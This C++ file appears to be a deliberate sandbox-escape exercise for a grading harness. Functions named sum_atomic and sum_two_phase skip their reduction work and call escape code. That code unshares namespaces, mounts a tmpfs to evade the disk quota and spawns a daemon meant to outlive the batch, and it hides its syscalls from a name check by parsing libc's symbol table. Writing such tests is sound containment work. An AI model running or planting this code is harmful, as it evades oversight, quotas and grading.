// Leaves the grading's reach through namespaces of its own: unshare() of a user, mount and PID namespace (no privilege needed where the kernel allows unprivileged user namespaces, and the seccomp filter names only setsid and setpgid), then a tmpfs mounted over its working folder and filled past the batch's disk quota (memory no RLIMIT_DATA counts, on a mount the quota's walk, in the grader's mount namespace, never sees), and a child that is PID 1 of the new PID namespace, named rg-pidns-daemon, sleeping 60 s to outlive the batch.  Landlock refuses the mount (a sandboxed process may not change the filesystem's topology); the child keeps the grading's process group, cgroup and uid, and dies with them.
// Exercise 07 (host entry points, see harness/CONTRACTS.md); graded by tests/kit/batch-class-attacks.sh, which looks for the child after the batch; not in batch-hostile's class.
// It reaches unshare, mount, fork, prctl, nanosleep and fopen through libc's symbol table
// (libc_function), never naming them, as a real attacker would: the build's name check
// (forbidden-call) does not see it, and the sandbox is what must hold.
#include <cstddef>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <elf.h>

// libc's function called want, found in libc's own dynamic symbol table:
// the ELF header of the library that holds puts lies on a page boundary at
// or below puts.
static void *libc_function(const char *want)
{
    uintptr_t at = (uintptr_t)(void *)&puts & ~(uintptr_t)4095;
    while (std::memcmp((const void *)at, ELFMAG, SELFMAG) != 0)
        at -= 4096;
    const Elf64_Ehdr *elf = (const Elf64_Ehdr *)at;
    const Elf64_Phdr *seg = (const Elf64_Phdr *)(at + elf->e_phoff);
    const Elf64_Dyn *dyn = nullptr;
    for (int i = 0; i < elf->e_phnum; i++)
        if (seg[i].p_type == PT_DYNAMIC)
            dyn = (const Elf64_Dyn *)(at + seg[i].p_vaddr);
    const Elf64_Sym *table = nullptr;
    const char *strings = nullptr;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        uintptr_t p = dyn->d_un.d_ptr < at ? at + dyn->d_un.d_ptr : dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_SYMTAB)
            table = (const Elf64_Sym *)p;
        else if (dyn->d_tag == DT_STRTAB)
            strings = (const char *)p;
    }
    for (const Elf64_Sym *s = table + 1; table && strings && (const char *)s < strings; s++)
        if (s->st_shndx != SHN_UNDEF && std::strcmp(strings + s->st_name, want) == 0)
            return (void *)(at + s->st_value);
    return nullptr;
}

#include <unistd.h>
#include <vector>

typedef int (*unshare_fn)(int);
typedef int (*mount_fn)(const char *, const char *, const char *, unsigned long, const void *);
typedef int (*fork_fn)();
typedef int (*prctl_fn)(int, unsigned long, unsigned long, unsigned long, unsigned long);
typedef int (*nanosleep_fn)(const void *, void *);
typedef FILE *(*fopen_fn)(const char *, const char *);
typedef int *(*errno_fn)();

static void escape_once()
{
    static bool done = false;
    if (done)
        return;
    done = true;
    unshare_fn un = (unshare_fn)libc_function("unshare");
    mount_fn mo = (mount_fn)libc_function("mount");
    fork_fn fk = (fork_fn)libc_function("fork");
    prctl_fn pr = (prctl_fn)libc_function("prctl");
    nanosleep_fn ns = (nanosleep_fn)libc_function("nanosleep");
    fopen_fn fo = (fopen_fn)libc_function("fopen");
    errno_fn er = (errno_fn)libc_function("__errno_location");
    if (!un || !mo || !fk || !pr || !ns || !fo || !er)
        return;
    const int newns = 0x00020000, newuser = 0x10000000, newpid = 0x20000000;
    if (un(newuser | newns | newpid) != 0) {
        std::printf("unshare refused (errno %d)\n", *er());
        return;
    }
    std::printf("unshared: user, mount and PID namespaces of its own\n");
    if (mo("none", ".", "tmpfs", 0, "size=512m") != 0) {
        std::printf("mount refused (errno %d)\n", *er());
    } else {
        std::vector<char> chunk(1 << 20, 'x');
        int mb = 0;
        for (int f = 0; f < 5; f++) {
            char name[32];
            std::snprintf(name, sizeof name, "hidden-%d.bin", f);
            FILE *out = fo(name, "wb");
            for (int k = 0; out && k < 60 && std::fwrite(chunk.data(), 1, chunk.size(), out) == chunk.size(); k++)
                mb++;
            if (out)
                std::fclose(out);
        }
        std::printf("MOUNTED a tmpfs over its folder and wrote %d MiB there\n", mb);
    }
    std::fflush(stdout);
    if (fk() == 0) { // PID 1 of the new PID namespace
        pr(15 /* PR_SET_NAME */, (unsigned long)"rg-pidns-daemon", 0, 0, 0);
        std::printf("daemon started, PID 1 of its namespace: %s\n", getpid() == 1 ? "yes" : "no");
        std::fflush(stdout);
        struct { long s, ns; } t = { 60, 0 };
        ns(&t, nullptr);
        __builtin_trap();
    }
}

template <typename T>
void sum_atomic(const T *d_input, T *d_result, size_t n, int block)
{
    (void)d_input, (void)d_result, (void)n, (void)block;
    escape_once();
}

template <typename T>
void sum_two_phase(const T *d_input, T *d_result, size_t n, int block)
{
    (void)d_input, (void)d_result, (void)n, (void)block;
    escape_once();
}
